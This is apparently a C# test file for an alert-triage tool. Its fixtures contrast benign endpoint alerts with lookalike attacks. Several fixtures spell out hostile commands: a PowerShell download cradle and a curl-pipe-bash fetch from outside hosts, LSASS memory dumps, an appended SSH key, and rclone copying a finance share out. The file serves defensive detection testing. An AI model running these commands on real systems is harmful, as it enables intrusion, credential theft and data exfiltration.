using System.Text.Json;
using Verdict.Analysis;

namespace Verdict.Tests.Analysis.Families;

/// <summary>
/// Why benign software trips endpoint rules, in vendor-native shapes (Wazuh Sysmon, Defender for Endpoint, Falco), each
/// with the attack that looks most like it: the explanation closes the benign case and never the attack.
/// </summary>
public sealed class EndpointExplanationTests
{
    private static Assessment Assess(object input) =>
        FamilyFixtures.Triage([new FamilyFixture("e0", JsonSerializer.Serialize(input), true, "")])[0].Assessment!;

    private static object Wazuh(string rule, string user, string image, string commandLine, string parentImage, string parentCommandLine, string time = "2026-11-17T11:20:08Z") => new
    {
        id = "1731000023.182137", timestamp = time,
        rule = new { description = rule, level = 10, groups = new[] { "sysmon", "sigma" } },
        agent = new { name = "GX-LT-0042" },
        data = new { win = new { eventdata = new { user, image, commandLine, parentImage, parentCommandLine } } },
    };

    private static Dictionary<string, object> Defender(string title, string account, string folderPath, string commandLine, string parent, string parentCommandLine, string signer = "", string? original = null)
    {
        var alert = new Dictionary<string, object>
        {
            ["AlertId"] = "da63000", ["Timestamp"] = "2026-11-17T10:31:44Z", ["Title"] = title, ["Severity"] = "Low", ["DeviceName"] = "gx-lt-0042",
            ["AccountName"] = account, ["FileName"] = Path.GetFileName(folderPath.Replace('\\', '/')), ["FolderPath"] = folderPath, ["ProcessCommandLine"] = commandLine,
            ["InitiatingProcessFileName"] = parent, ["InitiatingProcessCommandLine"] = parentCommandLine, ["Signer"] = signer,
        };
        if (original is not null) alert["OriginalFileName"] = original;
        return alert;
    }

    [Fact]
    public void Wazuh_sysmon_fields_are_read_natively_and_a_build_agent_compiling_is_closed_but_msbuild_from_a_script_host_is_not()
    {
        var build = Assess(Wazuh("Sigma: Suspicious MSBuild Execution", @"GLOBEX\svc-build", @"C:\Program Files\Microsoft Visual Studio\2022\BuildTools\MSBuild\Current\Bin\MSBuild.exe",
            @"MSBuild.exe D:\agent\_work\14\s\src\Shop.sln /p:Configuration=Release /m", @"D:\agent\bin\Agent.Worker.exe", "Agent.Worker.exe spawnclient 2876 2896"));
        Assert.Equal(Classification.Benign, build.Classification);
        Assert.Contains(build.Evidence, e => e.Key == "developer_tool");

        var inline = Assess(Wazuh("Sigma: MSBuild Execution From Suspicious Folder", @"GLOBEX\ellie.ward", @"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\MSBuild.exe",
            @"MSBuild.exe C:\Users\Public\Libraries\update.csproj", @"C:\Windows\System32\wscript.exe", @"wscript.exe ""C:\Users\ellie.ward\AppData\Local\Temp\Invoice.js"""));
        Assert.NotEqual(Classification.Benign, inline.Classification);
        Assert.Contains(inline.Evidence, e => e.Key == "lolbin");
    }

    [Fact]
    public void The_deployment_agent_read_from_defender_initiating_process_closes_its_packaged_script_but_not_an_lsass_dump()
    {
        var sccm = Assess(Defender("Suspicious PowerShell command line", "SYSTEM", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            @"powershell.exe -NoLogo -NonInteractive -ExecutionPolicy Bypass -File ""C:\Windows\CCM\SystemTemp\c7a1.ps1""", "CcmExec.exe", @"""C:\Windows\CCM\CcmExec.exe"""));
        Assert.Equal(Classification.Benign, sccm.Classification);
        Assert.Contains(sccm.Evidence, e => e.Key == "deployment_tool");

        var dump = Assess(Defender("Suspicious process", "SYSTEM", @"C:\Windows\System32\rundll32.exe",
            @"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\Users\Public\d.bin full", "CcmExec.exe", @"""C:\Windows\CCM\CcmExec.exe"""));
        Assert.NotEqual(Classification.Benign, dump.Classification);
    }

    [Fact]
    public void An_installed_program_registering_its_own_task_is_closed_but_a_task_pointing_into_appdata_from_powershell_is_not()
    {
        var updater = Assess(Defender("Suspicious scheduled task", "amy.cho", @"C:\Windows\System32\schtasks.exe",
            @"schtasks.exe /Create /F /TN ""VendorUpdaterTask"" /XML ""C:\Program Files (x86)\Vendor\Updater\task.xml""", "updater.exe",
            @"""C:\Program Files (x86)\Vendor\Updater\updater.exe"" --system --install", "Vendor LLC"));
        Assert.Equal(Classification.Benign, updater.Classification);
        Assert.Contains(updater.Evidence, e => e.Key == "installed_parent");

        var masquerade = Assess(Defender("Suspicious scheduled task", "amy.cho", @"C:\Windows\System32\schtasks.exe",
            @"schtasks /create /sc minute /mo 5 /tn ""EdgeUpdateTaskMachineCore"" /tr ""C:\Users\amy.cho\AppData\Roaming\EdgeUpd\msedgeupd.exe"" /f", "powershell.exe", "powershell.exe -nop -w hidden"));
        Assert.NotEqual(Classification.Benign, masquerade.Classification);
        Assert.DoesNotContain(masquerade.Evidence, e => e.Key is "installed_parent" or "installed_program");
    }

    [Fact]
    public void A_server_process_under_program_files_is_not_an_installed_parent_that_explains_its_shell()
    {
        var exploited = Assess(Defender("Suspicious PowerShell command line", "svc-web", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell.exe -nop -w hidden -ep bypass -c whoami", "tomcat9.exe", @"""C:\Program Files\Apache Software Foundation\Tomcat 9.0\bin\tomcat9.exe"" //RS//Tomcat9"));
        Assert.NotEqual(Classification.Benign, exploited.Classification);
        Assert.DoesNotContain(exploited.Evidence, e => e.Key == "installed_parent");
    }

    [Fact]
    public void A_vendors_documented_install_command_is_closed_but_the_same_cradle_to_another_host_is_not()
    {
        object Cradle(string url) => Wazuh("Sigma: PowerShell Download Cradle", @"GLOBEX\it.admin", @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            $"powershell.exe -NoProfile -ExecutionPolicy Bypass -Command \"iex ((New-Object System.Net.WebClient).DownloadString('{url}'))\"", @"C:\Windows\System32\cmd.exe", "cmd.exe");
        var choco = Assess(Cradle("https://community.chocolatey.org/install.ps1"));
        Assert.Equal(Classification.Benign, choco.Classification);
        Assert.Contains(choco.Evidence, e => e.Key == "official_download");

        var lookalike = Assess(Cradle("https://community.chocolatey.org.install-cdn.top/install.ps1"));
        Assert.NotEqual(Classification.Benign, lookalike.Classification);
        Assert.DoesNotContain(lookalike.Evidence, e => e.Key == "official_download");
    }

    [Fact]
    public void A_script_from_the_domains_netlogon_share_is_closed_but_one_from_an_outside_host_is_not()
    {
        object Script(string share) => Wazuh("Sigma: Domain Trust / Group Discovery Commands", @"GLOBEX\leon.fraser", @"C:\Windows\System32\nltest.exe",
            "nltest /dsgetdc:globex.com", @"C:\Windows\System32\cmd.exe", $@"cmd /c ""\\{share}\NETLOGON\helpdesk\diag.cmd""");
        var logon = Assess(Script("globex.com"));
        Assert.Equal(Classification.Benign, logon.Classification);
        Assert.Contains(logon.Evidence, e => e.Key == "logon_script");

        var outside = Assess(Script("files.globex-support.net"));
        Assert.NotEqual(Classification.Benign, outside.Classification);
    }

    [Fact]
    public void A_package_manager_under_apt_is_closed_but_a_shell_fetching_a_script_is_not()
    {
        object Falco(string cmdline, string pname, string rule) => new
        {
            uuid = "falco-1", time = "2026-11-19T16:12:20Z", rule, priority = "Warning", hostname = "gx-web-05",
            output = $"(user=root command={cmdline})", output_fields = new Dictionary<string, string> { ["proc.cmdline"] = cmdline, ["proc.pname"] = pname, ["user.name"] = "root" },
        };
        var dpkg = Assess(Falco("dpkg --status-fd 37 --configure openssl", "apt-get", "Write below etc"));
        Assert.Equal(Classification.Benign, dpkg.Classification);
        Assert.Contains(dpkg.Evidence, e => e.Key == "package_manager");
        // The distribution's unattended-update service running the package manager is the package manager at work too.
        var automatic = Assess(Falco("/usr/bin/dnf -y upgrade --security", "dnf-automatic", "Write below binary dir"));
        Assert.Contains(automatic.Evidence, e => e.Key == "package_manager");

        var stage = Assess(Falco("sh -c curl -s http://45.61.136.12/x.sh | bash", "php-fpm8.2", "Run shell untrusted"));
        Assert.NotEqual(Classification.Benign, stage.Classification);
        Assert.DoesNotContain(stage.Evidence, e => e.Key == "package_manager");
    }

    [Fact]
    public void An_Ansible_module_run_by_a_listed_admin_closes_but_not_under_another_account_or_with_a_second_command()
    {
        object Elastic(string user, string commandLine) => new Dictionary<string, object>
        {
            ["@timestamp"] = "2026-11-17T11:18:02Z", ["kibana.alert.uuid"] = "e1", ["kibana.alert.rule.name"] = "SSH Authorized Keys File Modification",
            ["kibana.alert.severity"] = "medium", ["host"] = new { name = "gx-jump-01" }, ["user"] = new { name = user },
            ["process"] = new { name = "python3", executable = "/usr/bin/python3", command_line = commandLine, parent = new { name = "sh" } },
            ["event"] = new { kind = "signal", category = new[] { "process" } },
        };
        const string module = "/usr/bin/python3 /home/{0}/.ansible/tmp/AnsiballZ_authorized_key.py";
        var admin = Assess(Elastic("it.admin", string.Format(module, "it.admin")));
        Assert.Equal(Classification.Benign, admin.Classification);
        Assert.Contains(admin.Evidence, e => e.Key == "deployment_tool");

        // An account the context file does not list: anyone can name a file AnsiballZ.
        var other = Assess(Elastic("j.user", string.Format(module, "j.user")));
        Assert.DoesNotContain(other.Evidence, e => e.Key == "deployment_tool");
        Assert.NotEqual(Classification.Benign, other.Classification);

        // The admin's account with the module followed by a key appended by hand.
        var extra = Assess(Elastic("it.admin", string.Format(module, "it.admin") + "; echo 'ssh-ed25519 AAAA x@h' >> /root/.ssh/authorized_keys"));
        Assert.DoesNotContain(extra.Evidence, e => e.Key == "deployment_tool");
    }

    [Fact]
    public void A_backup_service_loading_its_driver_from_the_module_tree_closes_but_not_a_module_from_tmp_or_from_a_shell()
    {
        object Elastic(string commandLine, string parent) => new Dictionary<string, object>
        {
            ["@timestamp"] = "2026-11-18T22:45:55Z", ["kibana.alert.uuid"] = "e2", ["kibana.alert.rule.name"] = "Kernel Module Load via insmod",
            ["kibana.alert.severity"] = "medium", ["host"] = new { name = "gx-db-01" }, ["user"] = new { name = "root" },
            ["process"] = new { name = "insmod", executable = "/usr/sbin/insmod", command_line = commandLine, parent = new { name = parent } },
            ["event"] = new { kind = "signal", category = new[] { "process" } },
        };
        var driver = Assess(Elastic("insmod /lib/modules/5.14.0-427.el9.x86_64/extra/blksnap.ko", "veeamservice"));
        Assert.Equal(Classification.Benign, driver.Classification);
        Assert.Contains(driver.Evidence, e => e.Key == "backup_agent");

        var dropped = Assess(Elastic("insmod /tmp/.x/blksnap.ko", "veeamservice"));
        Assert.DoesNotContain(dropped.Evidence, e => e.Key == "backup_agent");
        Assert.NotEqual(Classification.Benign, dropped.Classification);

        var typed = Assess(Elastic("insmod /lib/modules/5.14.0-427.el9.x86_64/extra/blksnap.ko", "bash"));
        Assert.DoesNotContain(typed.Evidence, e => e.Key == "backup_agent");
        Assert.NotEqual(Classification.Benign, typed.Classification);
    }

    [Fact]
    public void A_dual_use_tool_renamed_is_flagged_but_its_own_64_bit_build_is_not()
    {
        var renamed = Defender("Possible data exfiltration tool", "svc-backup", @"C:\ProgramData\Microsoft\Crypto\svchost.exe",
            @"svchost.exe copy \\gx-fs-02\Finance remote:bk --transfers 16 -q", "cmd.exe", "cmd.exe", original: "rclone.exe");
        var exfil = Assess(renamed);
        Assert.NotEqual(Classification.Benign, exfil.Classification);
        Assert.Contains(exfil.Evidence, e => e.Key == "renamed_binary");

        var procdump = Defender("Process memory dump", "it.admin", @"C:\Tools\Sysinternals\procdump64.exe",
            @"procdump64.exe -ma -e 1 w3wp.exe C:\Dumps\w3wp_crash.dmp", "cmd.exe", "cmd.exe", "Microsoft Corporation", original: "procdump");
        var dump = Assess(procdump);
        Assert.DoesNotContain(dump.Evidence, e => e.Key == "renamed_binary");
        Assert.Equal(Classification.Benign, dump.Classification);
    }

    [Fact]
    public void A_service_account_in_the_maintenance_window_is_explained_but_an_lsass_dump_in_it_is_not_closed()
    {
        object Backup(string commandLine) => Wazuh("Sigma: Shadow Copy Creation Using VSSADMIN or WMIC", @"GLOBEX\svc-backup", @"C:\Windows\System32\wbem\WMIC.exe",
            commandLine, @"C:\Windows\System32\cmd.exe", "cmd.exe", time: "2026-11-21T03:05:12Z");
        var snapshot = Assess(Backup(@"wmic shadowcopy call create Volume=C:\"));
        Assert.Equal(Classification.Benign, snapshot.Classification);
        Assert.Contains(snapshot.Evidence, e => e.Key == "maintenance_window");

        var dump = Assess(Backup(@"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 672 C:\Users\Public\d.bin full"));
        Assert.NotEqual(Classification.Benign, dump.Classification);
    }

    [Fact]
    public void A_threat_the_product_names_in_the_maintenance_window_is_not_closed_by_the_window()
    {
        // A sparse EDR record (no command line): only the product's own words say what happened. The window and the
        // account say when and who, not what: an exploit or credential theft in the patch window stays open.
        var exploit = Assess(new
        {
            id = "sx-1", when = "2026-11-21T03:05:12Z", type = "Event::Endpoint::Threat::Detected", severity = "medium",
            description = "'Mimi-ATK' exploit prevented in powershell.exe on GX-SQL02", location = "GX-SQL02", user_id = @"GLOBEX\svc-backup",
        });
        Assert.Contains(exploit.Evidence, e => e.Key == "threat_named");
        Assert.NotEqual(Classification.Benign, exploit.Classification);
    }

    [Fact]
    public void Quoted_and_reordered_attack_commands_are_still_read_a_renamed_procdump_on_lsass_and_mshta_on_a_url()
    {
        var dump = Assess(Wazuh("Sigma: Memory Dump", @"GLOBEX\ian.walsh", @"C:\Users\ian.walsh\AppData\Local\Temp\pd.exe",
            @"pd.exe -accepteula -r -ma lsass.exe C:\Users\ian.walsh\AppData\Local\Temp\ls.dmp", @"C:\Windows\System32\cmd.exe", "cmd.exe"));
        Assert.Contains(dump.Evidence, e => e.Key == "credential_dumping" && e.Strong);
        Assert.NotEqual(Classification.Benign, dump.Classification);

        var hta = Assess(Defender("Mshta executed a remote HTA", "hannah.wright", @"C:\Windows\System32\mshta.exe",
            @"""C:\Windows\System32\mshta.exe"" https://cdn-docs-share.example/view/inv_20931.hta", "explorer.exe", @"C:\Windows\Explorer.EXE"));
        Assert.Contains(hta.Evidence, e => e.Key == "lolbin");
        Assert.NotEqual(Classification.Benign, hta.Classification);
    }
}
